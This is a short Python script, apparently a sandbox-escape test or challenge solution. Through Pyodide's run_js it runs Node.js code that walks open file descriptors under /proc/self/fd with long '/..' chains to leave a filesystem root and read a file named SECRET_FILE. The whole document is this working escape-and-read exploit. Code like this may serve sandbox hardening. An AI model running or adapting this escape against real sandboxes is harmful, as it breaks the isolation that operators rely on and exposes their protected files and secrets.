"""Leaves its root through whatever folder the process has open."""

from pyodide.code import run_js

read = run_js("""(path) => {
  const fs = process.getBuiltinModule("fs");
  for (let number = 0; number < 256; number++)
    for (const up of ["", "/..".repeat(40)])
      try {
        return fs.readFileSync(`/proc/self/fd/${number}${up}${path}`, "utf8");
      } catch {}
  return fs.readFileSync(`/proc/self/cwd${path}`, "utf8");
}""")
print(read(SECRET_FILE))
